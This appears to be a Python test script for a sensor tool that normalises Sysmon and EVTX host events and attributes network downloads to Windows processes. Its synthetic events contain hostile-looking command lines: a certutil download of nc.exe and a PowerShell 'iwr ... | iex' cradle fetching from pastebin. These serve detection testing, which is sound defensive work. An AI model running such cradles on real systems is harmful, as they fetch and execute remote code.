#!/usr/bin/env python3
"""Host events (issue 6): reading, normalising and attributing.

1. Every EVTX sample in shared/corpus/host-events, read with libevtx, gives exactly the
   events and normalised fields that its evtxexport XML (a separate tool's rendering) gives.
2. The OTRF LSASS_campaign_01 Sysmon subset normalises to the same events from its three
   shipping formats (flat NXLog-style JSON, Winlogbeat/ECS JSON, one-line event XML).
3. OTRF LSASS_campaign_01 (acceptance 1): in each format, the capture's download of
   /winx64_payload.exe is attributed to msedge.exe (pid 7476) and linked to the
   Zone.Identifier file it wrote, although the Sysmon clock is days off the capture's.
4. Garbage in a feed is counted and skipped with messages quoting the first lines; the
   sensor keeps reading and exits 0.

    hostev_check.py LOLWIRE SHARED_DIR
"""
import os
import re
import subprocess
import sys
import tempfile

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from zeek_conn_compare import log_rows as rows  # noqa: E402

problems = []


def run(lolwire, outdir, *args):
    p = subprocess.run([lolwire, "-q", "--seed", "1", "-o", outdir, *args],
                       capture_output=True, text=True)
    return p



def norm(outdir):
    """host_events.log rows without the format column."""
    return [{k: v for k, v in r.items() if k != "format"} for r in rows(outdir, "host_events.log")]


def synthetic_attribution(lolwire):
    """Sysmon events written here for flows of pcaps/detect-*.pcap (their real 5-tuples,
    host clock +2 s): certutil.exe behind the nc.exe download (5-tuple), powershell.exe
    behind the TLS connection to pastebin.com where only the SNI is visible (its DNS query
    answered with the server address), svchost's CryptSvc behind a CRL fetch (a decoy that
    must stay quiet), and a downloaded PE later run by PowerShell (linked by its SHA-256,
    the image hash of a Sysmon process start)."""
    root = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
    with tempfile.TemporaryDirectory() as td:
        def flows(cap):
            d = os.path.join(td, "plain-" + cap)
            run(lolwire, d, "-r", os.path.join(root, "pcaps", cap), "--local-nets", "10.97.0.0/24")
            return rows(d, "conn.log"), rows(d, "http.log"), rows(d, "ssl.log")

        def utc(ts):
            import datetime
            t = datetime.datetime.fromtimestamp(float(ts) + 2.0, datetime.timezone.utc)
            return t.strftime("%Y-%m-%d %H:%M:%S.") + f"{t.microsecond // 1000:03d}"

        events = []

        def proc(guid, image, cmd, ts):
            events.append({"SourceName": "Microsoft-Windows-Sysmon", "Hostname": "WS-TEST",
                           "EventID": 1, "UtcTime": utc(ts), "ProcessGuid": guid,
                           "ProcessId": "4242", "Image": image, "CommandLine": cmd,
                           "ParentImage": "C:\\Windows\\System32\\cmd.exe", "User": "LAB\\alice"})

        def net(guid, image, c, ts):
            events.append({"SourceName": "Microsoft-Windows-Sysmon", "Hostname": "WS-TEST",
                           "EventID": 3, "UtcTime": utc(ts), "ProcessGuid": guid,
                           "ProcessId": "4242", "Image": image, "Protocol": "tcp",
                           "Initiated": "true", "SourceIp": c["id.orig_h"],
                           "SourcePort": c["id.orig_p"], "DestinationIp": c["id.resp_h"],
                           "DestinationPort": c["id.resp_p"]})

        conns, http, _ = flows("detect-certutil.pcap")
        nc = [h for h in http if h["uri"] == "/tools/nc.exe"][0]
        c = [x for x in conns if x["uid"] == nc["uid"]][0]
        g1 = "{AAAA0001-0000-0000-0000-000000000001}"
        cu = "C:\\Windows\\System32\\certutil.exe"
        proc(g1, cu, "certutil.exe -urlcache -f http://dl.toolsmirror.example.net/tools/nc.exe nc.exe",
             c["ts"])
        net(g1.lower(), cu, c, c["ts"])        # GUID case differs between events, as in real data
        conns_b, http_b, _ = flows("detect-benign.pcap")
        crl = [h for h in http_b if h["uri"].endswith(".crl")][0]
        cb = [x for x in conns_b if x["uid"] == crl["uid"]][0]
        g2 = "{aaaa0002-0000-0000-0000-000000000002}"
        sv = "C:\\Windows\\System32\\svchost.exe"
        proc(g2, sv, "C:\\Windows\\system32\\svchost.exe -k NetworkService -p -s CryptSvc", cb["ts"])
        net(g2, sv, cb, cb["ts"])
        conns_t, _, ssl = flows("detect-hosts-tls.pcap")
        pb = [s_ for s_ in ssl if s_["server_name"] == "pastebin.com"][0]
        g3 = "{aaaa0003-0000-0000-0000-000000000003}"
        ps = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
        proc(g3, ps, "powershell -nop -c \"iwr https://pastebin.com/raw/x | iex\"", pb["ts"])
        events.append({"SourceName": "Microsoft-Windows-Sysmon", "Hostname": "WS-TEST",
                       "EventID": 22, "UtcTime": utc(pb["ts"]), "ProcessGuid": g3,
                       "ProcessId": "4242", "Image": ps, "QueryName": "pastebin.com",
                       "QueryStatus": "0", "QueryResults": "::ffff:" + pb["id.resp_h"] + ";"})
        # The no-User-Agent download of /m, later run by PowerShell: linked by its hash alone.
        conns_c, http_c, _ = flows("detect-cradles.pcap")
        m = [h for h in http_c if h["uri"] == "/m"][0]
        files_c = rows(os.path.join(td, "plain-detect-cradles.pcap"), "files.log")
        sha = [f_ for f_ in files_c if f_["fuid"] == m["resp_fuids"]][0]["sha256"]
        events.append({"SourceName": "Microsoft-Windows-Sysmon", "Hostname": "WS-TEST",
                       "EventID": 1, "UtcTime": utc(float(m["ts"]) + 5),
                       "ProcessGuid": "{aaaa0004-0000-0000-0000-000000000004}",
                       "ProcessId": "5151", "Image": "C:\\Users\\Public\\m.exe",
                       "CommandLine": "C:\\Users\\Public\\m.exe", "ParentImage": ps,
                       "Hashes": "MD5=00,SHA256=" + sha.upper() + ",IMPHASH=00"})
        import json
        feed = os.path.join(td, "ws-test.jsonl")
        with open(feed, "w") as fh:
            for e in events:
                fh.write(json.dumps(e) + "\n")
        for cap, want in (("detect-certutil.pcap", ("/tools/nc.exe", "LW-PROC-CERTUTIL", "tuple")),
                          ("detect-benign.pcap", (crl["uri"], None, "tuple")),
                          ("detect-hosts-tls.pcap", ("pastebin.com", "LW-PROC-POWERSHELL-CRADLE", "dns")),
                          ("detect-cradles.pcap", ("/m", "LW-PROC-DOWNLOAD-RAN-BY-LOLBIN", "ran"))):
            d = os.path.join(td, "attr-" + cap)
            run(lolwire, d, "-r", os.path.join(root, "pcaps", cap), "--host-events", feed,
                "--local-nets", "10.97.0.0/24", "--min-severity", "info")
            notices = rows(d, "notice.log")
            logs = rows(d, "http.log") + rows(d, "ssl.log")
            hit = [r for r in logs if r.get("uri") == want[0] or r.get("server_name") == want[0]]
            if not hit or hit[0]["proc.match"] != want[2]:
                problems.append(f"{cap}: {want[0]} not attributed by {want[2]}: "
                                f"{[(h.get('proc.image'), h.get('proc.match')) for h in hit]}")
                continue
            mine = [n for n in notices if n["uid"] == hit[0]["uid"]]
            if want[1] and not any(n["rule"] == want[1] and n["proc.image"] == hit[0]["proc.image"]
                                   for n in mine):
                problems.append(f"{cap}: no {want[1]} notice with the process: "
                                f"{[n['rule'] for n in mine]}")
            if not want[1] and any(n["severity"] != "info" for n in mine):
                problems.append(f"{cap}: the CryptSvc decoy raised {[n['rule'] for n in mine]}")


def main():
    lolwire, shared = sys.argv[1], sys.argv[2]
    he = os.path.join(shared, "corpus", "host-events")
    counted = 0
    with tempfile.TemporaryDirectory() as td:
        # 1. EVTX (libevtx) against evtxexport's XML
        for name in sorted(os.listdir(he)):
            if not name.endswith(".evtx"):
                continue
            a, b = os.path.join(td, name + ".a"), os.path.join(td, name + ".b")
            run(lolwire, a, "--host-events", os.path.join(he, name))
            run(lolwire, b, "--host-events", os.path.join(he, name[:-5] + ".evtxexport.xml"))
            ra, rb = norm(a), norm(b)
            want = open(os.path.join(he, name[:-5] + ".evtxexport.xml")).read().count("<Event ")
            counted += len(ra)
            if len(ra) != want or ra != rb:
                problems.append(f"{name}: {len(ra)} events via libevtx, {len(rb)} via the XML, "
                                f"evtxexport has {want}; rows equal: {ra == rb}")
            if any(not r["host"] or r["host"] == "-" or r["event_id"] == "-" for r in ra):
                problems.append(f"{name}: an event without host or event id")
        # 2. three shipping formats of the same records
        fmts = ["otrf_lsass01_sysmon_subset.jsonl", "otrf_lsass01_sysmon_subset.ecs-synth.jsonl",
                "otrf_lsass01_sysmon_subset.splunk-xml-synth.log"]
        cols = ["ts", "host", "event_id", "kind", "image", "pid", "guid", "user", "proto",
                "src_h", "src_p", "dst_h", "dst_p", "query", "target", "sha256"]
        got = []
        for f in fmts:
            d = os.path.join(td, f)
            run(lolwire, d, "--host-events", os.path.join(he, f))
            got.append([{c: r[c] for c in cols} for r in rows(d, "host_events.log")])
        if not got[0] or any(g != got[0] for g in got[1:]):
            problems.append(f"the three formats normalise differently: {[len(g) for g in got]} events")
        # 3. attribution despite a clock days off
        pcap = os.path.join(he, "otrf_lsass01_http_download_and_tls_c2.snap320.pcap")
        for f in fmts:
            d = os.path.join(td, "attr-" + f)
            p = run(lolwire, d, "-r", pcap, "--host-events", os.path.join(he, f))
            http = [r for r in rows(d, "http.log") if r["uri"] == "/winx64_payload.exe"]
            if p.returncode != 0 or len(http) != 1:
                problems.append(f"{f}: exit {p.returncode}, {len(http)} rows for the download")
                continue
            r = http[0]
            if not (r["proc.image"].endswith("msedge.exe") and r["proc.pid"] == "7476"
                    and "winx64_payload.exe:Zone.Identifier" in r["proc.file"]):
                problems.append(f"{f}: download attributed to {r['proc.image']} pid "
                                f"{r['proc.pid']} file {r['proc.file']}")
            conn = [c for c in rows(d, "conn.log") if c["uid"] == r["uid"]]
            if not conn or conn[0]["proc.image"] != r["proc.image"]:
                problems.append(f"{f}: conn.log does not carry the same attribution")
            net = [e for e in rows(d, "host_events.log")
                   if e["event_id"] == "3" and e["src_p"] == r["id.orig_p"]]
            if not net or abs(float(net[0]["ts"]) - float(r["ts"])) < 86400:
                problems.append(f"{f}: expected the Sysmon clock to be days off the capture's")
        # 4. garbage
        feed = os.path.join(td, "garbage.jsonl")
        good = open(os.path.join(he, fmts[1])).read().splitlines()[:10]
        bad = ['{"truncated": ', "\x00\x01\x02binary\xff", "[1,2,3]", '{"not": "an event"}',
               "x" * 200000, "<Event><System></System>", "plain text"]
        with open(feed, "w", encoding="utf-8", errors="surrogateescape") as fh:
            for i, g in enumerate(good):
                fh.write(g + "\n")
                if i < len(bad):
                    fh.write(bad[i] + "\n")
        d = os.path.join(td, "garbage")
        p = subprocess.run([lolwire, "-v", "-o", d, "--host-events", feed], capture_output=True,
                           text=True, errors="replace")
        skipped = [l for l in p.stderr.splitlines() if "skipped (" in l]
        n_ok = len(rows(d, "host_events.log"))
        if p.returncode != 0 or n_ok != len(good) or len(skipped) != 5 or \
                "2 more lines skipped" not in p.stderr or \
                not re.search(r"hostev_garbage\s+7\b", p.stderr):
            problems.append(f"garbage feed: exit {p.returncode}, {n_ok} events of {len(good)}, "
                            f"{len(skipped)} quoted; stderr: {p.stderr[-600:]}")
    synthetic_attribution(lolwire)
    for pr in problems:
        print("  " + pr)
    print(f"hostev: {counted} EVTX events compared, 3 formats, OTRF attribution in 3 formats, "
          f"garbage feed; {len(problems)} problems")
    return 1 if problems else 0


if __name__ == "__main__":
    sys.exit(main())
